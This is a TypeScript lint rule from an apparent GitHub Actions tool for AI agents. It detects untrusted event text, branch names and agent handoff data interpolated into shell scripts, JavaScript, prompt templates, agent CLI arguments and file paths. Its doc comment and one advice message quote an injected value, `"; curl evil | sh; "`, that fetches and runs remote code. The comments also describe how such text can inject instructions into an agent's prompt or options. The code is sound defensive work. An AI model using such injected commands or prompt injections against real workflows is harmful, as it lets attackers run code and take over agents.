import { INPUTS, OUTPUTS, PRESET_ENV, STAGE_WORKFLOW_OWN_INPUTS } from '../../names.js';
import type { ExpressionEngine } from '../../ports.js';
import { callsStageWorkflow, stepAction as classifyStep } from '../../workflow/baton-actions.js';
import type { Job, ValueMap, Workflow, WorkflowValue } from '../../workflow/index.js';
import { MAX_COMPOSITE_DEPTH } from '../../workflow/plan.js';
import type { LintContext } from '../context.js';
import { eventFieldMayHoldText } from '../event-text.js';
import type { LintFinding } from '../finding.js';
import { expressionsIn, SourceLocator } from '../locate.js';
import { batonStepIds, jobOutputsCarrying, stepAction } from '../workflow-facts.js';

/**
 * `untrusted-expression`: GitHub replaces `${{ }}` with its value before a script or an action sees the
 * text. Interpolated into a `run:` script, an issue title like `"; curl evil | sh; "` becomes shell; into a
 * prompt template, it becomes template and instructions before baton can fence it. Attacker-controlled
 * values are the text fields of the event payload (`github.event.*`, see event-text.ts), `github.head_ref`
 * (a branch name anyone can choose), and the `data` a handoff carries (an agent wrote it, perhaps after
 * reading attacker text). Only a path whose value can reach the expression's result counts: pasted,
 * `contains(github.event.issue.title, 'x')` is `true` or `false`, whatever the title says.
 */
export function checkUntrustedExpressions(context: LintContext): LintFinding[] {
  const { workflow, expressions } = context;
  const findings: LintFinding[] = [];
  // The workflow's own env reaches every job's steps: its BATON_AGENT_ARGS is checked once, for the first
  // job with a stage step.
  let workflowArgsChecked = false;
  for (const job of workflow.jobs) {
    const sources = sourcesOf(context, job);
    // What checks a value against the env maps in force where it is written.
    const checkerFor = (envs: ValueMap[]) => {
      const taintedEnv = taintedNames(envs, sources, expressions);
      const isUntrusted = (path: string[]) =>
        untrustedPath(path, sources) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
      return (value: WorkflowValue | undefined | null, kind: Sink) => {
        if (value) findings.push(...findingsIn(value, kind, isUntrusted, context));
      };
    };
    // The agent's arguments may be set for the whole job or workflow too: the runner passes both to its
    // steps, a stage step's agent among them.
    if (job.steps.some((step) => stepAction(step) === 'stage')) {
      checkerFor([workflow.env])(envValue(job.env, PRESET_ENV.args), 'agent-args');
      if (!workflowArgsChecked) checkerFor([])(envValue(workflow.env, PRESET_ENV.args), 'agent-args');
      workflowArgsChecked = true;
    }
    for (const step of job.steps) {
      const check = checkerFor([workflow.env, job.env, step.env]);
      check(step.run, 'shell');
      const action = stepAction(step);
      if (action === 'stage' || action === 'prepare') checkStageInputs(step.with, check);
      if (action === 'stage') check(envValue(step.env, PRESET_ENV.args), 'agent-args');
      if (action === 'capture') check(step.with[INPUTS.agentOutput], 'path');
      if (step.uses && /^actions\/github-script@/.test(step.uses.text)) check(step.with.script, 'script');
      // A composite action of the repository: its steps are pasted into as the job's are, and an input
      // given untrusted text carries it in.
      const local = classifyStep(step);
      if (local.kind === 'local') {
        const taintedEnv = taintedNames([workflow.env, job.env, step.env], sources, expressions);
        const isUntrusted = (path: string[]) =>
          untrustedPath(path, sources) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
        findings.push(
          ...checkLocalAction(local.path, taintedInputs(step.with, isUntrusted, expressions), context, 0),
        );
      }
    }
    // A job calling the reusable stage workflow passes the same inputs; GitHub pastes them the same way.
    if (callsStageWorkflow(job)) checkStageInputs(job.with, checkerFor([workflow.env]));
  }
  return findings;
}

/** Each workflow's job outputs carrying a handoff's `data`, by job: found once, not once a job. */
const dataOutputsOfWorkflow = new WeakMap<Workflow, Map<string, Set<string>>>();

function dataOutputsOf(workflow: Workflow, expressions: ExpressionEngine): Map<string, Set<string>> {
  let outputs = dataOutputsOfWorkflow.get(workflow);
  if (outputs === undefined) {
    outputs = new Map(
      workflow.jobs.map((j) => [j.id.toLowerCase(), jobOutputsCarrying(j, OUTPUTS.data, expressions)]),
    );
    dataOutputsOfWorkflow.set(workflow, outputs);
  }
  return outputs;
}

/** Where untrusted text comes from in a job of the workflow being checked. */
function sourcesOf({ workflow, expressions, run }: LintContext, job: Job): Sources {
  return {
    dataSteps: batonStepIds(job),
    dataOutputs: dataOutputsOf(workflow, expressions),
    // A called workflow runs on its caller's event: the top workflow's triggers say what the event holds.
    triggers: run?.triggers ?? new Set(Object.keys(workflow.on)),
    taintedInputs: run?.taintedInputs ?? new Set(),
  };
}

/**
 * The inputs (lower case) of the workflow a job calls (`uses: ./.github/workflows/x.yml`) that its `with:`
 * gives untrusted text: inside the called workflow, `inputs.<name>` is that text, as a composite action's are.
 */
export function taintedCallInputs(context: LintContext, job: Job): Set<string> {
  const sources = sourcesOf(context, job);
  // `env` is not a context of a call's `with:`.
  return taintedInputs(job.with, (path) => untrustedPath(path, sources), context.expressions);
}

/** The inputs (lower case) a step gives untrusted text in `with:`. */
function taintedInputs(
  inputs: ValueMap,
  isUntrusted: (path: string[]) => boolean,
  expressions: ExpressionEngine,
): Set<string> {
  const names = new Set<string>();
  for (const [name, value] of Object.entries(inputs)) {
    if (value.expression !== null && expressions.facts(value.expression).resultPaths.some(isUntrusted))
      names.add(name.toLowerCase());
  }
  return names;
}

/**
 * The steps of a composite action of the repository, checked as a job's are, in its action.yml: the event
 * (`github.event.*`) is as untrusted there, and so is an input its caller gave untrusted text.
 */
function checkLocalAction(
  path: string,
  tainted: ReadonlySet<string>,
  context: LintContext,
  depth: number,
): LintFinding[] {
  const action = depth > MAX_COMPOSITE_DEPTH ? null : (context.loadAction?.(path) ?? null);
  if (action?.kind !== 'composite') return [];
  const inAction: LintContext = { ...context, file: action.file, locator: new SourceLocator(action.source) };
  const sources: Sources = {
    dataSteps: new Set(),
    dataOutputs: new Map(),
    triggers: context.run?.triggers ?? new Set(Object.keys(context.workflow.on)),
    // `inputs` in the action are the action's own: `tainted` says which its caller gave untrusted text.
    taintedInputs: new Set(),
  };
  const isUntrustedHere = (path: string[]) =>
    untrustedPath(path, sources) || (path[0] === 'inputs' && tainted.has((path[1] ?? '').toLowerCase()));
  const findings: LintFinding[] = [];
  for (const step of action.steps) {
    const taintedEnv = new Set<string>();
    for (const [name, value] of Object.entries(step.env)) {
      if (
        value.expression !== null &&
        context.expressions.facts(value.expression).resultPaths.some(isUntrustedHere)
      )
        taintedEnv.add(name.toLowerCase());
    }
    const isUntrusted = (path: string[]) =>
      isUntrustedHere(path) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
    const check = (value: WorkflowValue | undefined | null, kind: Sink) => {
      if (value) findings.push(...findingsIn(value, kind, isUntrusted, inAction));
    };
    check(step.run, 'shell');
    const kind = classifyStep(step);
    if (kind.kind === 'baton' && (kind.action === 'stage' || kind.action === 'prepare'))
      checkStageInputs(step.with, check);
    if (kind.kind === 'baton' && kind.action === 'capture') check(step.with[INPUTS.agentOutput], 'path');
    if (step.uses && /^actions\/github-script@/.test(step.uses.text)) check(step.with.script, 'script');
    if (kind.kind === 'local')
      findings.push(
        ...checkLocalAction(
          kind.path,
          taintedInputs(step.with, isUntrusted, context.expressions),
          context,
          depth + 1,
        ),
      );
  }
  return findings;
}

type Sink = 'shell' | 'prompt' | 'script' | 'vars' | 'agent-args' | 'path';

/**
 * The inputs of a baton stage that GitHub interpolates into a template or a shell command, into a path
 * baton reads or runs in, or (the reusable stage workflow's `agent-args`) into the agent CLI's arguments.
 */
function checkStageInputs(inputs: ValueMap, check: (value: WorkflowValue | undefined, kind: Sink) => void) {
  check(inputs[INPUTS.prompt], 'prompt');
  check(inputs[INPUTS.promptFile], 'path');
  check(inputs[INPUTS.workingDirectory], 'path');
  check(inputs[INPUTS.run], 'shell');
  check(inputs[INPUTS.verify], 'shell');
  // A custom shell (`python {0}`, `bash -x {0}`) is a command line.
  check(inputs[INPUTS.shell], 'shell');
  check(inputs[INPUTS.vars], 'vars');
  check(inputs[STAGE_WORKFLOW_OWN_INPUTS.agentArgs], 'agent-args');
}

/** The value of env var `name` in `env`, named in any case (GitHub's env names are not case-sensitive). */
function envValue(env: ValueMap, name: string): WorkflowValue | undefined {
  const key = Object.keys(env).find((k) => k.toUpperCase() === name);
  return key === undefined ? undefined : env[key];
}

function findingsIn(
  value: WorkflowValue,
  sink: Sink,
  isUntrusted: (path: string[]) => boolean,
  { file, locator, expressions }: LintContext,
): LintFinding[] {
  const findings: LintFinding[] = [];
  for (const { expression, offset } of expressionsIn(value.text)) {
    if (!expressions.facts(expression).resultPaths.some(isUntrusted)) continue;
    findings.push({
      rule: 'untrusted-expression',
      file,
      ...locator.locate(value, offset),
      message: advice(`\${{ ${expression} }}`, sink),
    });
  }
  return findings;
}

function advice(shown: string, sink: Sink): string {
  switch (sink) {
    case 'shell': {
      const env = /^\$\{\{ env\.([A-Za-z_][A-Za-z0-9_]*) \}\}$/.exec(shown);
      if (env) {
        return `\`${shown}\` in a shell command: ${env[1]} holds attacker-controlled text, and GitHub pastes it into the script before the shell reads it. Use "$${env[1]}" (the shell's variable) instead`;
      }
      return `\`${shown}\` in a shell command: GitHub pastes the value into the script before the shell reads it, so text like \`"; curl … | sh; "\` runs. Pass it through \`env:\` (NAME: ${shown}) and use "$NAME" in the script`;
    }
    case 'script':
      return `\`${shown}\` in a github-script: GitHub pastes the value into the JavaScript before it runs. Pass it through \`env:\` and read process.env.NAME`;
    case 'vars':
      return `\`${shown}\` in vars: GitHub pastes the value into the YAML before baton reads it, so a line break in it adds keys of its own (\`inputs.<any>\` in the prompt). Leave it out of vars: and read it in the prompt with the Handlebars form (\`{{github.event.…}}\`), inside \`{{fence …}}\` for text people wrote`;
    case 'agent-args':
      return `\`${shown}\` in the agent's arguments (BATON_AGENT_ARGS, agent-args): each line becomes an argument of the agent CLI, so the text can give it options of its own (a config, a tool, a system prompt). Write the arguments in the workflow, and give the text to the agent in its prompt, inside \`{{fence …}}\``;
    case 'path':
      return `\`${shown}\` in a path: the text picks the file baton reads (the prompt template, the agent's output) or the directory the agent runs in, any of the workspace's, a pull request's own files among them (\`x/../../package.json\`). Name the path in the workflow; to pick one by a label or a command, compare the text with the values you allow (\`github.event.label.name == 'agent:docs' && 'prompts/docs.md' || 'prompts/default.md'\`)`;
    case 'prompt':
      return `\`${shown}\` in a prompt: GitHub pastes the value into the template before baton compiles it, so the text becomes template and instructions. Use the Handlebars form instead (\`{{github.event.…}}\`, \`{{stages.<id>.data.<key>}}\`), which baton prints as data, inside \`{{fence …}}\` for text people wrote`;
  }
}

/** Where untrusted text comes from, for one job. */
interface Sources {
  /** Ids (lower case) of the job's steps whose `data` output carries a handoff's. */
  dataSteps: ReadonlySet<string>;
  /** Per job id (lower case), its outputs carrying a handoff's `data`. */
  dataOutputs: ReadonlyMap<string, ReadonlySet<string>>;
  /** The workflow's `on:` events (the top workflow's, in a called one). */
  triggers: ReadonlySet<string>;
  /** Inputs (lower case) of a called workflow that its call gives untrusted text. */
  taintedInputs: ReadonlySet<string>;
}

function untrustedPath(
  path: string[],
  { dataSteps, dataOutputs, triggers, taintedInputs }: Sources,
): boolean {
  if (path[0] === 'inputs' && taintedInputs.size > 0)
    return path[1] === undefined || path[1] === '*' || taintedInputs.has(path[1].toLowerCase());
  if (path[0] === 'github') {
    if (path.length === 1) return true; // toJSON(github) carries the event
    if (path[1] === 'head_ref' || path[1] === '*') return true;
    if (path[1] === 'event') return eventFieldMayHoldText(path.slice(2), triggers);
  }
  const [context, id, outputs, name] = path;
  if (outputs !== 'outputs' || id === undefined || name === undefined) return false;
  if (context === 'steps') return name === OUTPUTS.data && (dataSteps.has(id) || id === '*');
  if (context === 'needs') return dataOutputs.get(id)?.has(name) === true || id === '*';
  return false;
}

/** Env names (any level visible to the step) whose value is itself untrusted, one hop deep. */
function taintedNames(maps: ValueMap[], sources: Sources, expressions: ExpressionEngine): Set<string> {
  const names = new Set<string>();
  for (const map of maps) {
    for (const [name, value] of Object.entries(map)) {
      if (value.expression === null) continue;
      if (expressions.facts(value.expression).resultPaths.some((p) => untrustedPath(p, sources))) {
        names.add(name.toLowerCase());
      }
    }
  }
  return names;
}
